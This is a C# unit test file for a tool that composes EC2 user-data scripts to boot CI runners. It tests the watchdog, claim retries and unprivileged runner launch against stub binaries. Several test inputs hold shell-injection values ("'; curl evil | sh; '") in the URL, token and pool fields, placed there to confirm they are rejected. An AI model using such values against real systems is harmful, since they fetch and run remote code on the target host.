using System.Diagnostics;
using Builtiful.Compute.Ec2.Launching;
using Builtiful.Compute.Ec2.Options;
using Builtiful.Machines;
using Builtiful.Providers;

namespace Builtiful.Compute.Ec2.Tests;

public sealed class UserDataTests
{
    private static readonly DateTimeOffset Deadline = new(2030, 1, 2, 3, 4, 5, TimeSpan.Zero);

    private const string Token = "5f1c0d9a3b7e4c2a8f6d1e0b9c8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b0a";

    [Fact]
    public void The_script_arms_the_watchdog_then_claims_then_runs_the_runner_unprivileged_with_its_config_in_the_environment()
    {
        var script = RunnerUserData.Compose(Request(), new RunnerBootstrapOptions());
        var lines = script.Split('\n');

        Assert.Equal("#!/bin/bash", lines[0]);
        Assert.Contains($"deadline={Deadline.ToUnixTimeSeconds()}", lines);
        var watchdog = Array.FindIndex(lines, l => l.StartsWith("shutdown -P \"+$minutes\"", StringComparison.Ordinal));
        var trap = Array.IndexOf(lines, "trap 'shutdown -P now' EXIT");
        var identity = Array.FindIndex(lines, l => l.Contains("/dynamic/instance-identity/document", StringComparison.Ordinal));
        var claim = Array.FindIndex(lines, l => l.Contains("--data-binary @-", StringComparison.Ordinal));
        var export = Array.IndexOf(lines, "export ACTIONS_RUNNER_INPUT_JITCONFIG=\"$config\"");
        var runner = Array.IndexOf(lines, "runuser -u 'runner' -- ./run.sh");
        Assert.True(watchdog > 0 && trap > watchdog && identity > trap && claim > identity && export > claim && runner > export, script);
        Assert.Contains("cd '/opt/actions-runner'", lines);
        Assert.Contains("claim_url='https://builtiful.example.com/api/runners/claim'", lines);
        Assert.Contains($"claim_token='{Token}'", lines);
        Assert.Contains("--proto '=https'", lines[claim], StringComparison.Ordinal);
        Assert.Contains(lines, l => l.Contains("X-aws-ec2-metadata-token-ttl-seconds", StringComparison.Ordinal)); // IMDSv2
        Assert.DoesNotContain(lines, l => l.TrimStart().StartsWith("set -x", StringComparison.Ordinal) || l.Contains("set -o xtrace", StringComparison.Ordinal));
        Assert.DoesNotContain("--jitconfig", script, StringComparison.Ordinal);
    }

    [Fact]
    public void The_same_request_always_yields_the_same_user_data()
    {
        var request = Request();

        Assert.Equal(RunnerUserData.Encode(request, new RunnerBootstrapOptions()), RunnerUserData.Encode(request with { }, new RunnerBootstrapOptions()));
    }

    [Theory]
    [InlineData("https://builtiful.example.com/claim?x='; curl evil | sh; '", Token)]
    [InlineData("ftp://builtiful.example.com/claim", Token)]
    [InlineData("https://builtiful.example.com/api/runners/claim", "abc'; curl evil | sh; '")]
    [InlineData("https://builtiful.example.com/api/runners/claim", "")]
    public void A_claim_url_or_token_that_could_break_out_of_its_quotes_never_reaches_the_script(string url, string token)
    {
        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Compose(Request(new Uri(url), token), new RunnerBootstrapOptions()));

        Assert.Contains("refusing to put it in user data", refused.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("curl evil", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void User_data_over_the_limit_is_refused()
    {
        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Encode(
            Request(new Uri("https://builtiful.example.com/api/runners/claim?padding=" + new string('a', RunnerUserData.MaxBytes))), new RunnerBootstrapOptions()));

        Assert.Contains("16384-byte limit", refused.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Bash_parses_the_script()
    {
        if (Bash() is not { } bash)
        {
            return; // no bash on this machine: the behaviour tests below skip too
        }

        var (exit, output) = await RunAsync(bash, ["-n", Write(RunnerUserData.Compose(Request(), new RunnerBootstrapOptions()))], new Dictionary<string, string>());

        Assert.True(exit == 0, output);
    }

    /// <summary>The script run by bash against stand-ins for IMDS, the claim endpoint, runuser and shutdown (on PATH first).</summary>
    [Fact]
    public async Task After_a_503_the_granted_config_reaches_the_runner_only_through_its_environment()
    {
        if (Bash() is null)
        {
            return;
        }

        using var guest = new Guest(["503", "200"]);

        var (exit, output) = await guest.BootAsync();

        Assert.True(exit == 0, output);
        Assert.Equal(2, guest.Claims.Count);
        Assert.All(guest.Claims, c => Assert.Contains($"\"token\":\"{Token}\"", c, StringComparison.Ordinal));
        Assert.All(guest.Claims, c => Assert.Contains("\"leaseId\":\"0f8fad5b-d9cb-469f-a165-70867728950e\"", c, StringComparison.Ordinal)); // the gateway reads a Guid in its D form
        Assert.All(guest.Claims, c => Assert.Contains($"\"document\":\"{Convert.ToBase64String("{\"instanceId\":\"i-0abc\",\"region\":\"eu-west-1\"}"u8)}\"", c, StringComparison.Ordinal));
        Assert.All(guest.Claims, c => Assert.Contains("\"signature\":\"c2lnbmF0dXJlLWxpbmUtMQ==c2lnbmF0dXJlLWxpbmUtMg==\"", c, StringComparison.Ordinal));
        var runner = Assert.Single(guest.Runs);
        Assert.Equal("-u runner -- ./run.sh | env=" + Guest.JitConfig, runner); // '+' and '/' arrive unescaped
        Assert.DoesNotContain(Guest.JitConfig, output, StringComparison.Ordinal);
        Assert.EndsWith("now", guest.Shutdowns[^1], StringComparison.Ordinal); // powers off once the runner exits
    }

    [Fact]
    public async Task A_refused_claim_powers_the_VM_off_without_starting_the_runner()
    {
        if (Bash() is null)
        {
            return;
        }

        using var guest = new Guest(["403"]);

        await guest.BootAsync();

        Assert.Single(guest.Claims);
        Assert.Empty(guest.Runs);
        Assert.EndsWith("now", guest.Shutdowns[^1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Claims_that_keep_failing_stop_after_the_bound_and_power_the_VM_off()
    {
        if (Bash() is null)
        {
            return;
        }

        using var guest = new Guest([.. Enumerable.Repeat("503", RunnerUserData.ClaimAttempts + 5)]);

        await guest.BootAsync();

        Assert.Equal(RunnerUserData.ClaimAttempts, guest.Claims.Count);
        Assert.Empty(guest.Runs);
        Assert.EndsWith("now", guest.Shutdowns[^1], StringComparison.Ordinal);
    }

    /// <summary>A pool VM waits through 202s (not failed attempts), claims the lease's config, and moves its watchdog to the lease's deadline.</summary>
    [Fact]
    public async Task A_pool_vm_waits_through_202s_then_adopts_the_leases_deadline_before_its_runner_starts()
    {
        if (Bash() is null)
        {
            return;
        }

        using var guest = new Guest([.. Enumerable.Repeat("202", RunnerUserData.ClaimAttempts + 3), "200"], pool: "linux");

        var booted = DateTimeOffset.UtcNow;
        var (exit, output) = await guest.BootAsync();

        Assert.True(exit == 0, output);
        Assert.Equal(RunnerUserData.ClaimAttempts + 4, guest.Claims.Count);
        Assert.All(guest.Claims, c => Assert.Contains("\"pool\":\"linux\"", c, StringComparison.Ordinal));
        Assert.Single(guest.Runs);
        var cancel = guest.Shutdowns.ToList().IndexOf("-c");
        Assert.True(cancel > 0, string.Join(" | ", guest.Shutdowns));
        var rearmed = guest.Shutdowns[cancel + 1];
        var minutes = int.Parse(rearmed.Split(' ')[1].TrimStart('+'), System.Globalization.CultureInfo.InvariantCulture);
        // The script counts the minutes left while it runs, between the boot's start and now, in whole seconds (date +%s):
        // a minute boundary may pass on either side, so the bounds come from both ends.
        Assert.InRange(minutes, (int)(Deadline - DateTimeOffset.UtcNow).TotalMinutes - 2, (int)(Deadline - booted).TotalMinutes + 1);
    }

    [Fact]
    public void A_pool_name_that_could_break_out_of_its_quotes_never_reaches_the_script()
    {
        var request = Request() with { Claim = new ClaimTicket(new Uri("https://builtiful.example.com/api/runners/claim"), Token, "x'; curl evil | sh; '") };
        var refused = Assert.Throws<Ec2LaunchException>(() => RunnerUserData.Compose(request, new RunnerBootstrapOptions()));
        Assert.Contains("refusing to put it in user data", refused.Message, StringComparison.Ordinal);
    }

    private static LaunchRequest Request(Uri? url = null, string token = Token) => new()
    {
        LeaseId = Guid.Parse("0f8fad5b-d9cb-469f-a165-70867728950e"),
        InstallationId = 1,
        JobId = 2,
        MachineType = new MachineType("builtiful-2vcpu-ubuntu-2404", 2, 8, CpuArchitecture.X64, "ubuntu-2404", new Dictionary<string, string>()),
        ClientToken = "0f8fad5bd9cb469fa16570867728950e-1",
        Claim = new ClaimTicket(url ?? new Uri("https://builtiful.example.com/api/runners/claim"), token),
        ExpiresAt = Deadline,
    };

    private static string? Bash() => new[] { "/bin/bash", "/usr/bin/bash" }.FirstOrDefault(File.Exists);

    private static string Write(string script)
    {
        var path = Path.Combine(Directory.CreateTempSubdirectory("builtiful-userdata-").FullName, "user-data.sh");
        File.WriteAllText(path, script);
        return path;
    }

    private static async Task<(int Exit, string Output)> RunAsync(string file, IReadOnlyList<string> arguments, IReadOnlyDictionary<string, string> environment)
    {
        var start = new ProcessStartInfo(file) { RedirectStandardOutput = true, RedirectStandardError = true, UseShellExecute = false };
        foreach (var argument in arguments)
        {
            start.ArgumentList.Add(argument);
        }

        foreach (var (key, value) in environment)
        {
            start.Environment[key] = value;
        }

        using var process = Process.Start(start)!;
        var stdout = process.StandardOutput.ReadToEndAsync();
        var stderr = process.StandardError.ReadToEndAsync();
        await process.WaitForExitAsync();
        return (process.ExitCode, await stdout + await stderr);
    }

    /// <summary>A VM's boot with the real script; every command that would touch the outside world is a recording stand-in.</summary>
    private sealed class Guest : IDisposable
    {
        /// <summary>Has '+' and '/', which System.Text.Json escapes in the claim's answer.</summary>
        public const string JitConfig = "eyJydW5uZXIiOiJidWlsdGlmdWwifQ+/AB==";

        private readonly string _folder = Directory.CreateTempSubdirectory("builtiful-guest-").FullName;

        private readonly string? _pool;

        public Guest(IReadOnlyList<string> answers, string? pool = null)
        {
            _pool = pool;
            var bin = Directory.CreateDirectory(Path.Combine(_folder, "bin")).FullName;
            File.WriteAllLines(Path.Combine(_folder, "answers"), answers);
            Stub(bin, "curl", $$"""
                #!/bin/bash
                case "$*" in
                  *api/token*) printf 'imds-session' ;;
                  *instance-identity/document*) printf '{"instanceId":"i-0abc","region":"eu-west-1"}' ;;
                  *instance-identity/signature*) printf 'c2lnbmF0dXJlLWxpbmUtMQ==\nc2lnbmF0dXJlLWxpbmUtMg==\n' ;;
                  *api/runners/claim*)
                    cat >> '{{_folder}}/claims'; echo >> '{{_folder}}/claims'
                    status=$(head -n 1 '{{_folder}}/answers'); sed -i 1d '{{_folder}}/answers'
                    if [ "$status" = 200 ]; then printf '%s\n200' '{"runnerName":"builtiful-x","encodedJitConfig":"eyJydW5uZXIiOiJidWlsdGlmdWwifQ\u002B\/AB==","expiresAt":"2030-01-02T03:04:05\u002B00:00"}'; else printf '{"title":"no"}\n%s' "$status"; fi ;;
                esac
                """);
            Stub(bin, "runuser", $$"""
                #!/bin/bash
                echo "$* | env=${ACTIONS_RUNNER_INPUT_JITCONFIG:-}" >> '{{_folder}}/runs'
                """);
            Stub(bin, "shutdown", $$"""
                #!/bin/bash
                echo "$*" >> '{{_folder}}/shutdowns'
                """);
            Stub(bin, "sleep", "#!/bin/bash\n");
            Bin = bin;
        }

        private string Bin { get; }

        public IReadOnlyList<string> Claims => Lines("claims");

        public IReadOnlyList<string> Runs => Lines("runs");

        public IReadOnlyList<string> Shutdowns => Lines("shutdowns");

        public Task<(int Exit, string Output)> BootAsync()
        {
            var request = Request() with { ExpiresAt = DateTimeOffset.UtcNow.AddHours(1) };
            request = _pool is null ? request : request with { Claim = request.Claim with { Pool = _pool } };
            var script = RunnerUserData.Compose(request, new RunnerBootstrapOptions { Directory = _folder });
            return RunAsync(Bash()!, [Write(script)], new Dictionary<string, string> { ["PATH"] = Bin + ":" + Environment.GetEnvironmentVariable("PATH") });
        }

        public void Dispose() => Directory.Delete(_folder, recursive: true);

        private IReadOnlyList<string> Lines(string name) =>
            File.Exists(Path.Combine(_folder, name)) ? [.. File.ReadAllLines(Path.Combine(_folder, name)).Where(l => l.Length > 0)] : [];

        private static void Stub(string bin, string name, string script)
        {
            var path = Path.Combine(bin, name);
            File.WriteAllText(path, script.Replace("\r\n", "\n", StringComparison.Ordinal) + "\n");
            if (!OperatingSystem.IsWindows())
            {
                File.SetUnixFileMode(path, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
            }
        }
    }
}
